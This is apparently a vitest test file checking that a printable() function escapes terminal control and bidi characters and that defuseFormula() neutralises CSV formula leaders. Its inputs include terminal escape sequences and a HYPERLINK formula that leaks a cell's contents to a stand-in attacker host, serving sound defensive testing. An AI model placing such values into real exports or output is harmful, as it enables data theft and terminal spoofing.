// printable(): the one escaping of people-facing output; defuseFormula(): CSV formula leaders.
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { defuseFormula, printable, printableLines } from '../../src/text/printable.js';

const HOSTILE = [
  '\u001b]0;pwned\u0007', // set the terminal title
  '\u001b[2J\u001b[H', // clear the screen
  '\u009b31m', // C1 CSI
  '\u007f',
  'abc\u202edcba', // right-to-left override
  '\u2066x\u2069',
  '\r\n',
  '\u0000',
];

describe('printable', () => {
  it('escapes C0, DEL, C1 and bidi controls, visibly', () => {
    expect(printable('\u001b[31mred\u001b[0m')).toBe('\\x1b[31mred\\x1b[0m');
    expect(printable('a\u202eb')).toBe('a\\u202eb');
    expect(printable('tab\there\nline\r')).toBe('tab\\there\\nline\\r');
    expect(printable('\u0085\u009b\u007f')).toBe('\\x85\\x9b\\x7f');
    for (const h of HOSTILE) {
      expect(printable(h)).not.toMatch(
        // biome-ignore lint/suspicious/noControlCharactersInRegex: what must never get through
        /[\u0000-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/,
      );
    }
  });

  it('leaves printable text alone, non-ASCII letters included', () => {
    for (const ok of ['acme/ledger@main', 'émile/Ünïcode-日本', 'a "quoted" \\ path', '']) {
      expect(printable(ok)).toBe(ok);
    }
  });

  it('never outputs a control character, for any string', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'binary', maxLength: 48 }), (s) => {
        // biome-ignore lint/suspicious/noControlCharactersInRegex: what must never get through
        expect(printable(s)).not.toMatch(/[\u0000-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/);
      }),
      { numRuns: 300 },
    );
  });

  it('printableLines keeps line breaks but escapes the rest', () => {
    expect(printableLines('one\u001b\ntwo')).toBe('one\\x1b\ntwo');
  });
});

describe('defuseFormula', () => {
  it("prefixes = + - @ tab and CR with ' and nothing else", () => {
    for (const f of [
      '=HYPERLINK("http://evil.example/?x="&A1,"ok")',
      '+1',
      '-1+2',
      '@SUM(A1)',
      '\tx',
      '\rx',
    ]) {
      expect(defuseFormula(f)).toBe(`'${f}`);
    }
    for (const ok of ['main', 'a=b', ' =x', '1']) expect(defuseFormula(ok)).toBe(ok);
  });
});
